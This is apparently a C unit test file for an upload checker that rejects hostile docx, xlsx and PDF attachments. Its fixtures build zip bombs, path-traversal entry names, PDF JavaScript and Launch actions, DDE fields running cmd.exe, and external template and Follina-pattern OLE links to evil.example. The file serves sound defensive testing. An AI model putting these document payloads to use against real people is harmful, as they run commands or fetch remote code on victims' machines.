/* Tests of attach_check (src/attach/upload.c, ooxml.c, pdfparse.c): genuine
 * LibreOffice files pass, hostile ones get a sentence naming the problem. */
#include <zlib.h>

#include "fixtures.h"
#include "attach/attach_int.h"

/* A zip made here: n entries; encrypt: AES-256 on every entry. */
static void make_zip(const char *const *names, const struct slice *data, size_t n, bool encrypt, struct buf *out)
{
	char path[] = "/tmp/kunren-zip-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	close(fd);
	int err;
	zip_t *z = zip_open(path, ZIP_CREATE | ZIP_TRUNCATE, &err);
	assert_non_null(z);
	for (size_t i = 0; i < n; i++) {
		zip_source_t *s = zip_source_buffer(z, data[i].p, data[i].len, 0);
		zip_int64_t idx = zip_file_add(z, names[i], s, 0);
		assert_true(idx >= 0);
		if (encrypt)
			assert_int_equal(zip_file_set_encryption(z, (zip_uint64_t)idx, ZIP_EM_AES_256, "secret"), 0);
	}
	assert_int_equal(zip_close(z), 0);
	read_file(path, out);
	unlink(path);
}

/* attach_check must refuse b with a message containing want. */
static void refused(struct slice b, const char *want)
{
	enum attach_kind k = (enum attach_kind)99;
	const char *msg = NULL;
	assert_int_equal(attach_check(b, &k, &msg), -EINVAL);
	assert_non_null(msg);
	if (!strstr(msg, want))
		fail_msg("message \"%s\" does not say \"%s\"", msg, want);
	assert_int_equal(k, 99); /* ret_ parameters are written only on success */
}

static void accepted(struct slice b, enum attach_kind want)
{
	enum attach_kind k;
	const char *msg = NULL;
	int r = attach_check(b, &k, &msg);
	if (r != 0)
		fail_msg("refused: %s", msg ? msg : "(no message)");
	assert_int_equal(k, want);
}

static void test_genuine_files(void **state)
{
	struct buf docx, xlsx, pdf, xs;
	fixture("docx", &docx);
	fixture("xlsx", &xlsx);
	fixture("pdf", &pdf);
	fixture_xref_stream_pdf(&xs);
	accepted(buf_slice(&docx), ATTACH_DOCX);
	accepted(buf_slice(&xlsx), ATTACH_XLSX);
	accepted(buf_slice(&pdf), ATTACH_PDF);
	accepted(buf_slice(&xs), ATTACH_PDF);
	assert_non_null(memmem(xs.p, xs.len, "/XRef", 5)); /* really a stream */
	buf_release(&docx);
	buf_release(&xlsx);
	buf_release(&pdf);
	buf_release(&xs);
}

static void test_size_and_garbage(void **state)
{
	refused((struct slice){ "", 0 }, "empty");
	char *big = xcalloc(ATTACH_UPLOAD_MAX + 1, 1);
	memcpy(big, "%PDF-1.4\n", 9);
	refused((struct slice){ big, ATTACH_UPLOAD_MAX + 1 }, "larger than 10 MiB");
	free(big);

	char rnd[4096];
	random_bytes(rnd, sizeof(rnd));
	rnd[0] = 'x';
	refused((struct slice){ rnd, sizeof(rnd) }, "not a docx, xlsx or PDF");
	memcpy(rnd, "PK\x03\x04", 4);
	refused((struct slice){ rnd, sizeof(rnd) }, "zip is truncated or damaged");
	memcpy(rnd, "%PDF-1.7\n", 9);
	refused((struct slice){ rnd, sizeof(rnd) }, "PDF");
}

static void test_zip_bomb(void **state)
{
	/* 10 MiB of zeros deflate to about 10 KiB: 1000:1 */
	size_t n = 10 << 20;
	char *zeros = xcalloc(n, 1);
	const char *names[] = { "word/document.xml" };
	struct slice data[] = { { zeros, n } };
	struct buf z;
	make_zip(names, data, 1, false, &z);
	assert_true(z.len < 100 << 10);
	refused(buf_slice(&z), "compressed more than 200:1");
	buf_release(&z);
	free(zeros);
}

static uint32_t le32(const char *p)
{
	const unsigned char *u = (const unsigned char *)p;
	return u[0] | u[1] << 8 | u[2] << 16 | (uint32_t)u[3] << 24;
}

static void put_le32(char *p, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		p[i] = (char)(v >> (8 * i));
}

/* A bomb that lies: both headers say 1000 bytes, the data unpacks to 600 KiB. */
static void test_zip_header_lies(void **state)
{
	size_t n = 600 << 10;
	char *zeros = xcalloc(n, 1);
	const char *names[] = { "a.xml" };
	struct slice data[] = { { zeros, n } };
	struct buf z;
	make_zip(names, data, 1, false, &z);
	assert_int_equal(le32(z.p), 0x04034b50);
	assert_int_equal(le32(z.p + 22), n);
	put_le32(z.p + 22, 1000); /* local header: uncompressed size */
	char *cd = memmem(z.p, z.len, "PK\x01\x02", 4);
	assert_non_null(cd);
	assert_int_equal(le32(cd + 24), n);
	put_le32(cd + 24, 1000); /* central directory: the same */
	refused(buf_slice(&z), "unpacks to more than its header says");
	buf_release(&z);
	free(zeros);
}

static void test_zip_entries_and_names(void **state)
{
	static const char x[] = "<x/>";
	const char **names = xcalloc(1001, sizeof(*names));
	struct slice *data = xcalloc(1001, sizeof(*data));
	char (*store)[32] = xcalloc(1001, 32);
	for (int i = 0; i < 1001; i++) {
		snprintf(store[i], 32, "part%d.xml", i);
		names[i] = store[i];
		data[i] = SLICE_LIT(x);
	}
	struct buf z;
	make_zip(names, data, 1001, false, &z);
	refused(buf_slice(&z), "more than 1000 entries");
	buf_release(&z);
	free(names);
	free(data);
	free(store);

	static const char *const bad[] = { "../evil.xml", "/etc/passwd", "word\\document.xml", "C:evil", "a/../../b" };
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		const char *nm[] = { "[Content_Types].xml", bad[i] };
		struct slice d[] = { SLICE_LIT(x), SLICE_LIT(x) };
		make_zip(nm, d, 2, false, &z);
		refused(buf_slice(&z), "entry name with \"..\"");
		buf_release(&z);
	}

	const char *nm[] = { "[Content_Types].xml", "word/document.xml" };
	struct slice d[] = { SLICE_LIT(x), SLICE_LIT(x) };
	make_zip(nm, d, 2, true, &z);
	refused(buf_slice(&z), "encrypted entry");
	buf_release(&z);
}

static void test_truncated_zip(void **state)
{
	struct buf docx;
	fixture("docx", &docx);
	refused((struct slice){ docx.p, docx.len / 2 }, "truncated or damaged");
	/* a flipped byte in the compressed data of an entry */
	docx.p[200] ^= 0x55;
	enum attach_kind k;
	const char *msg = NULL;
	assert_int_equal(attach_check(buf_slice(&docx), &k, &msg), -EINVAL);
	assert_non_null(msg);
	buf_release(&docx);
}

static void test_ooxml_structure(void **state)
{
	struct buf docx, out;
	fixture("docx", &docx);
	struct slice none = { NULL, 0 };

	const char *ct[] = { "[Content_Types].xml" };
	zip_edit(buf_slice(&docx), ct, &none, 1, &out);
	refused(buf_slice(&out), "[Content_Types].xml is missing");
	buf_release(&out);

	const char *rels[] = { "_rels/.rels" };
	zip_edit(buf_slice(&docx), rels, &none, 1, &out);
	refused(buf_slice(&out), "_rels/.rels is missing");
	buf_release(&out);

	const char *doc[] = { "word/document.xml" };
	zip_edit(buf_slice(&docx), doc, &none, 1, &out);
	refused(buf_slice(&out), "word/document.xml is missing");
	buf_release(&out);

	struct slice broken = SLICE_LIT("<w:document><w:body><w:p></w:body></w:document>");
	zip_edit(buf_slice(&docx), doc, &broken, 1, &out);
	refused(buf_slice(&out), "word/document.xml is not well-formed");
	buf_release(&out);

	struct slice doctype = SLICE_LIT("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;</x>");
	zip_edit(buf_slice(&docx), ct, &doctype, 1, &out);
	refused(buf_slice(&out), "[Content_Types].xml is not well-formed");
	buf_release(&out);

	struct slice other = SLICE_LIT("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
				       "<Relationship Id=\"rId1\" Type=\"" REL_OFFICE_DOCUMENT "\" Target=\"ppt/presentation.xml\"/>"
				       "</Relationships>");
	zip_edit(buf_slice(&docx), rels, &other, 1, &out);
	refused(buf_slice(&out), "neither word/document.xml nor xl/workbook.xml");
	buf_release(&out);
	buf_release(&docx);
}

static void test_macros(void **state)
{
	struct buf docx, out;
	fixture("docx", &docx);

	const char *vba[] = { "word/vbaProject.bin" };
	struct slice bin = SLICE_LIT("\xd0\xcf\x11\xe0 not really OLE");
	zip_edit(buf_slice(&docx), vba, &bin, 1, &out);
	refused(buf_slice(&out), "macros (vbaProject.bin)");
	buf_release(&out);

	/* a docm's content type without the binary */
	size_t n;
	_cleanup_free_ char *ct = zip_entry(buf_slice(&docx), "[Content_Types].xml", &n);
	assert_non_null(ct);
	struct buf docm = BUF_INIT(0);
	const char *main = strstr(ct, CT_DOCX_MAIN);
	assert_non_null(main);
	assert_int_equal(buf_append(&docm, ct, (size_t)(main - ct)), 0);
	assert_int_equal(buf_puts(&docm, "application/vnd.ms-word.document.macroEnabled.main+xml"), 0);
	assert_int_equal(buf_puts(&docm, main + strlen(CT_DOCX_MAIN)), 0);
	const char *names[] = { "[Content_Types].xml" };
	struct slice d = buf_slice(&docm);
	zip_edit(buf_slice(&docx), names, &d, 1, &out);
	refused(buf_slice(&out), "macro-enabled documents");
	buf_release(&out);
	buf_release(&docm);
	buf_release(&docx);
}

static void test_xlsx_structure(void **state)
{
	struct buf xlsx, out;
	fixture("xlsx", &xlsx);
	const char *sheet[] = { "xl/worksheets/sheet1.xml" };
	struct slice none = { NULL, 0 };
	zip_edit(buf_slice(&xlsx), sheet, &none, 1, &out);
	refused(buf_slice(&out), "first worksheet named in xl/workbook.xml is missing");
	buf_release(&out);
	buf_release(&xlsx);
}

/* s with the first `from` replaced by `to` (same program, any length). */
static void replace(struct slice s, const char *from, const char *to, struct buf *out)
{
	const char *at = memmem(s.p, s.len, from, strlen(from));
	assert_non_null(at);
	buf_init(out, 0);
	assert_int_equal(buf_append(out, s.p, (size_t)(at - s.p)), 0);
	assert_int_equal(buf_puts(out, to), 0);
	size_t after = (size_t)(at - s.p) + strlen(from);
	assert_int_equal(buf_append(out, s.p + after, s.len - after), 0);
}

static void test_pdf_hostile(void **state)
{
	struct buf pdf, out;
	fixture("pdf", &pdf);

	refused((struct slice){ pdf.p, pdf.len / 2 }, "no %%EOF");

	/* no startxref at all */
	const char *sx = NULL;
	for (const char *q = pdf.p; (q = memmem(q, pdf.len - (size_t)(q - pdf.p), "startxref", 9)); q += 9)
		sx = q;
	assert_non_null(sx);
	buf_init(&out, 0);
	assert_int_equal(buf_append(&out, pdf.p, (size_t)(sx - pdf.p)), 0);
	assert_int_equal(buf_puts(&out, "%%EOF\n"), 0);
	refused(buf_slice(&out), "no startxref");
	buf_release(&out);

	/* startxref pointing at an object, not at a cross-reference */
	assert_int_equal(buf_append(&out, pdf.p, (size_t)(sx - pdf.p)), 0);
	const char *obj = memmem(pdf.p, pdf.len, " 0 obj", 6);
	assert_non_null(obj);
	while (obj > pdf.p && obj[-1] >= '0' && obj[-1] <= '9')
		obj--;
	assert_int_equal(buf_printf(&out, "startxref\n%zu\n%%%%EOF\n", (size_t)(obj - pdf.p)), 0);
	refused(buf_slice(&out), "cross-reference");
	buf_release(&out);

	/* a table that runs past its entries */
	replace(buf_slice(&pdf), "\nxref\n0 ", "\nxref\n0 9", &out);
	refused(buf_slice(&out), "cross-reference");
	buf_release(&out);

	/* a trailer without /Root */
	replace(buf_slice(&pdf), "/Root", "/Roox", &out);
	refused(buf_slice(&out), "no /Root");
	buf_release(&out);

	/* encrypted with qpdf (an empty user password: opens without asking) */
	int st;
	_cleanup_free_ char *o = run_cmd("qpdf --encrypt '' owner 256 -- " FIXTURE_DIR "/sample.pdf " FIXTURE_DIR
					 "/encrypted.pdf", &st);
	assert_int_equal(st, 0);
	struct buf enc;
	read_file(FIXTURE_DIR "/encrypted.pdf", &enc);
	refused(buf_slice(&enc), "encrypted PDFs cannot carry a beacon");
	buf_release(&enc);
	buf_release(&pdf);
}

/* Review finding 2: n cross-reference streams chained through /Prev, each
 * asking (through /Index and /W) for `rows` rows of 7 bytes but inflating
 * to `zeros` bytes, then a classic table and trailer for objects 1-3. */
static void make_xref_chain(int n, size_t zeros, unsigned rows, struct buf *out)
{
	char *z = xcalloc(zeros, 1);
	uLongf clen = compressBound(zeros);
	char *c = xmalloc(clen);
	assert_int_equal(compress2((Bytef *)c, &clen, (const Bytef *)z, zeros, 9), Z_OK);
	size_t offs[4], prev = 0;
	buf_init(out, 64 << 20);
	assert_int_equal(buf_puts(out, "%PDF-1.7\n"), 0);
	offs[1] = out->len;
	assert_int_equal(buf_puts(out, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"), 0);
	offs[2] = out->len;
	assert_int_equal(buf_puts(out, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"), 0);
	offs[3] = out->len;
	assert_int_equal(buf_puts(out, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"), 0);
	for (int k = 0; k < n; k++) {
		size_t at = out->len;
		assert_int_equal(buf_printf(out, "%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Index [0 %u] "
					    "/Filter /FlateDecode /Length %lu", 10 + k, 10 + n, rows, (unsigned long)clen), 0);
		if (k)
			assert_int_equal(buf_printf(out, " /Prev %zu", prev), 0);
		assert_int_equal(buf_puts(out, " >>\nstream\n"), 0);
		assert_int_equal(buf_append(out, c, clen), 0);
		assert_int_equal(buf_puts(out, "\nendstream\nendobj\n"), 0);
		prev = at;
	}
	size_t x = out->len;
	assert_int_equal(buf_puts(out, "xref\n0 4\n0000000000 65535 f \n"), 0);
	for (int k = 1; k <= 3; k++)
		assert_int_equal(buf_printf(out, "%010zu 00000 n \n", offs[k]), 0);
	assert_int_equal(buf_printf(out, "trailer\n<< /Size %d /Root 1 0 R /Prev %zu >>\nstartxref\n%zu\n%%%%EOF\n",
				    10 + n, prev, x), 0);
	free(z);
	free(c);
}

static void test_pdf_inflate_budget(void **state)
{
	struct buf f;
	struct pdf p;
	const char *msg = NULL;

	/* the reviewer's file: 63 streams of ~32 MiB, each needing one row */
	make_xref_chain(63, (32 << 20) - 65536, 1, &f);
	assert_true(f.len < 3 << 20);
	assert_int_equal(attach__pdf_open(buf_slice(&f), &p, &msg), 0);
	assert_int_equal(p.nsections, 64);
	/* 7 bytes a section were needed and no more came out (it was 2 GiB) */
	assert_int_equal(p.inflated, 63 * 7);
	attach__pdf_release(&p);
	accepted(buf_slice(&f), ATTACH_PDF);
	buf_release(&f);

	/* rows the streams really ask for: 1 MiB of rows each, 63 of them,
	 * stop at the budget */
	make_xref_chain(63, (size_t)7 << 20, 1 << 20, &f);
	assert_int_equal(attach__pdf_open(buf_slice(&f), &p, &msg), -EINVAL);
	assert_true(p.over_budget);
	assert_int_equal(p.inflated, PDF_INFLATE_BUDGET);
	attach__pdf_release(&p);
	refused(buf_slice(&f), "unpack to more than 64 MiB");
	buf_release(&f);
}

/* The fixture PDF with an incremental update: its catalog again with
 * `extra` entries added. */
static void pdf_with_catalog(const char *extra, struct buf *out)
{
	struct buf pdf, cat = BUF_INIT(1 << 20);
	struct pdf p;
	const char *msg;
	fixture("pdf", &pdf);
	assert_int_equal(attach__pdf_open(buf_slice(&pdf), &p, &msg), 0);
	assert_int_equal(attach__pdf_object(&p, p.root, &cat), 0);
	buf_init(out, 16 << 20);
	assert_int_equal(buf_put_slice(out, buf_slice(&pdf)), 0);
	size_t at = out->len;
	char *end = memrchr(cat.p, '>', cat.len);
	assert_non_null(end);
	assert_int_equal(buf_printf(out, "%u 0 obj\n%.*s %s >>\nendobj\n", p.root.num, (int)(end - 1 - cat.p), cat.p,
				    extra), 0);
	size_t x = out->len;
	assert_int_equal(buf_printf(out, "xref\n%u 1\n%010zu 00000 n \ntrailer\n<< /Size %u /Root %u 0 R /Prev %llu >>\n"
				    "startxref\n%zu\n%%%%EOF\n", p.root.num, at, p.size, p.root.num,
				    (unsigned long long)p.startxref, x), 0);
	attach__pdf_release(&p);
	buf_release(&cat);
	buf_release(&pdf);
}

static void test_pdf_active(void **state)
{
	static const struct { const char *extra, *want; } cases[] = {
		{ "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript (/JavaScript)" },
		{ "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", "JavaScript (/JavaScript)" },
		{ "/OpenAction << /S /Launch /F (cmd.exe) >>", "/Launch" },
		{ "/Names << /EmbeddedFiles << /Names [] >> >>", "/EmbeddedFiles" },
		{ "/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", "/GoToR" },
		{ "/OpenAction << /S /GoToE /D [0 /Fit] >>", "/GoToE" },
		{ "/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x/) >> >>", "/SubmitForm" },
		{ "/OpenAction << /S /ImportData /F (x.fdf) >>", "/ImportData" },
		{ "/X << /Subtype /RichMedia >>", "/RichMedia" },
	};
	struct buf f;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		pdf_with_catalog(cases[i].extra, &f);
		refused(buf_slice(&f), cases[i].want);
		buf_release(&f);
	}
	/* URI actions are what our own beacon is */
	pdf_with_catalog("/OpenAction << /S /URI /URI (https://example.com/) >>", &f);
	accepted(buf_slice(&f), ATTACH_PDF);
	buf_release(&f);

	/* the same JavaScript inside an object stream: not in the file's bytes */
	pdf_with_catalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", &f);
	write_file(FIXTURE_DIR "/js.pdf", buf_slice(&f));
	buf_release(&f);
	int st;
	_cleanup_free_ char *o = run_cmd("qpdf --object-streams=generate --compress-streams=y " FIXTURE_DIR "/js.pdf "
					 FIXTURE_DIR "/js-objstm.pdf", &st);
	if (st != 0 && st != 3)
		fail_msg("qpdf: %s", o);
	read_file(FIXTURE_DIR "/js-objstm.pdf", &f);
	assert_null(memmem(f.p, f.len, "JavaScript", 10));
	assert_non_null(memmem(f.p, f.len, "/ObjStm", 7));
	refused(buf_slice(&f), "JavaScript");
	buf_release(&f);
}

static void docx_with(const char *name, const char *from, const char *to, struct buf *out)
{
	struct buf docx, part;
	fixture("docx", &docx);
	size_t n = 0;
	_cleanup_free_ char *old = zip_entry(buf_slice(&docx), name, &n);
	if (from) {
		assert_non_null(old);
		replace((struct slice){ old, n }, from, to, &part);
	} else {
		buf_init(&part, 0);
		assert_int_equal(buf_puts(&part, to), 0);
	}
	const char *names[] = { name };
	struct slice data[] = { buf_slice(&part) };
	zip_edit(buf_slice(&docx), names, data, 1, out);
	buf_release(&part);
	buf_release(&docx);
}

#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define REL(type, target, mode) "<Relationship Id=\"rId99\" Type=\"" REL_NS "/" type "\" Target=\"" target "\"" mode "/>"

static void test_ooxml_active(void **state)
{
	struct buf f;

	docx_with("word/_rels/settings.xml.rels", NULL,
		  RELS_HEAD REL("attachedTemplate", "http://evil.example/t.dotm", " TargetMode=\"External\"") "</Relationships>", &f);
	refused(buf_slice(&f), "the document links an external template (word/_rels/settings.xml.rels): not accepted");
	buf_release(&f);

	docx_with("word/_rels/document.xml.rels", "</Relationships>",
		  REL("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", " TargetMode=\"External\"")
		  "</Relationships>", &f);
	refused(buf_slice(&f), "external OLE object (the Follina pattern)");
	buf_release(&f);

	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("oleObject", "embeddings/o.bin", "") "</Relationships>", &f);
	refused(buf_slice(&f), "embedded OLE object");
	buf_release(&f);

	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("image", "file://evil/share/x.png", " TargetMode=\"External\"") "</Relationships>", &f);
	refused(buf_slice(&f), "not on an http(s) server");
	buf_release(&f);

	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("frame", "http://evil.example/", " TargetMode=\"External\"") "</Relationships>", &f);
	refused(buf_slice(&f), "external frame");
	buf_release(&f);

	/* hyperlinks and linked http(s) images stay */
	docx_with("word/_rels/document.xml.rels", "</Relationships>",
		  REL("hyperlink", "file://anything/at/all", " TargetMode=\"External\"")
		  "<Relationship Id=\"rId98\" Type=\"" REL_IMAGE "\" Target=\"https://example.com/a.png\" TargetMode=\"External\"/>"
		  "</Relationships>", &f);
	accepted(buf_slice(&f), ATTACH_DOCX);
	buf_release(&f);

	docx_with("word/embeddings/oleObject1.bin", NULL, "MZ", &f);
	refused(buf_slice(&f), "embedded object or file (embeddings/)");
	buf_release(&f);
	docx_with("word/activeX/activeX1.xml", NULL, "<ax:ocx xmlns:ax=\"x\"/>", &f);
	refused(buf_slice(&f), "ActiveX");
	buf_release(&f);

	/* DDE: split over runs, entity-encoded, in a simple field, hidden behind a nested field */
	static const char *const dde[][2] = {
		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
		  "<w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
		  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "DDE field" },
		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> &#68;<![CDATA[de]]> x y</w:instrText></w:r>"
		  "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "DDE field" },
		{ "<w:p><w:fldSimple w:instr=\" ddeauto x y\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", "DDE field" },
		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		  "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		  "<w:r><w:instrText> x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
		  "keyword comes from another field" },
	};
	for (size_t i = 0; i < ARRAY_SIZE(dde); i++) {
		_cleanup_free_ char *to = xasprintf("<w:body>%s", dde[i][0]);
		docx_with("word/document.xml", "<w:body>", to, &f);
		refused(buf_slice(&f), dde[i][1]);
		buf_release(&f);
	}
	/* an ordinary field is fine, and "dde" inside a word is no keyword */
	docx_with("word/document.xml", "<w:body>",
		  "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK \"https://x/hidden\"</w:instrText></w:r>"
		  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", &f);
	accepted(buf_slice(&f), ATTACH_DOCX);
	buf_release(&f);

	/* xlsx: macro sheets, DDE links */
	struct buf xlsx;
	fixture("xlsx", &xlsx);
	const char *names[] = { "xl/macrosheets/sheet1.xml" };
	struct slice data[] = { SLICE_LIT("<xm:macrosheet xmlns:xm=\"x\"/>") };
	zip_edit(buf_slice(&xlsx), names, data, 1, &f);
	refused(buf_slice(&f), "Excel 4.0 macro sheets");
	buf_release(&f);
	const char *xl[] = { "xl/externalLinks/externalLink1.xml" };
	struct slice xd[] = { SLICE_LIT("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
					"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>") };
	zip_edit(buf_slice(&xlsx), xl, xd, 1, &f);
	refused(buf_slice(&f), "DDE link");
	buf_release(&f);
	buf_release(&xlsx);
}

static void test_xml_scanner(void **state)
{
	assert_int_equal(attach__xml_check(SLICE_LIT("<a><b x='1' y=\"2\"/><!-- <c> --><![CDATA[<d>]]></a>")), 0);
	assert_int_equal(attach__xml_check(SLICE_LIT("<a><b></a></b>")), -EINVAL);
	assert_int_equal(attach__xml_check(SLICE_LIT("<a/><b/>")), -EINVAL);
	assert_int_equal(attach__xml_check(SLICE_LIT("<a x=\"1>")), -EINVAL);
	assert_int_equal(attach__xml_check(SLICE_LIT("<a")), -EINVAL);
	assert_int_equal(attach__xml_check(SLICE_LIT("<a><!-- unterminated </a>")), -EINVAL);

	struct slice doc = SLICE_LIT("<r:x a:Target=\"a&amp;b&#x41;&#66;&lt;\" Id='i'/>");
	size_t pos = 0;
	struct xml_tag t;
	struct buf v = BUF_INIT(64);
	assert_int_equal(attach__xml_next(doc, &pos, &t), 1);
	assert_true(t.empty);
	assert_true(slice_eq_str(attach__xml_local(t.name), "x"));
	assert_true(attach__xml_attr_local(&t, "Target", &v));
	assert_string_equal(v.p, "a&bAB<");
	assert_true(attach__xml_attr(&t, "Id", &v));
	assert_string_equal(v.p, "i");
	assert_false(attach__xml_attr(&t, "Target", &v)); /* qualified name differs */
	assert_int_equal(attach__xml_next(doc, &pos, &t), 0);

	assert_int_equal(attach__part_resolve("xl/worksheets/sheet1.xml", "../drawings/d1.xml", &v), 0);
	assert_string_equal(v.p, "xl/drawings/d1.xml");
	assert_int_equal(attach__part_resolve("word/document.xml", "/word/media/a.png", &v), 0);
	assert_string_equal(v.p, "word/media/a.png");
	assert_int_equal(attach__part_resolve("word/document.xml", "../../etc/passwd", &v), -EINVAL);
	attach__rels_name("xl/worksheets/sheet1.xml", &v);
	assert_string_equal(v.p, "xl/worksheets/_rels/sheet1.xml.rels");
	buf_release(&v);
}

static int teardown(void **state)
{
	lo_cleanup();
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_genuine_files),
		cmocka_unit_test(test_size_and_garbage),
		cmocka_unit_test(test_zip_bomb),
		cmocka_unit_test(test_zip_header_lies),
		cmocka_unit_test(test_zip_entries_and_names),
		cmocka_unit_test(test_truncated_zip),
		cmocka_unit_test(test_ooxml_structure),
		cmocka_unit_test(test_macros),
		cmocka_unit_test(test_xlsx_structure),
		cmocka_unit_test(test_pdf_hostile),
		cmocka_unit_test(test_xml_scanner),
		cmocka_unit_test(test_pdf_inflate_budget),
		cmocka_unit_test(test_pdf_active),
		cmocka_unit_test(test_ooxml_active),
	};
	return cmocka_run_group_tests(tests, NULL, teardown);
}
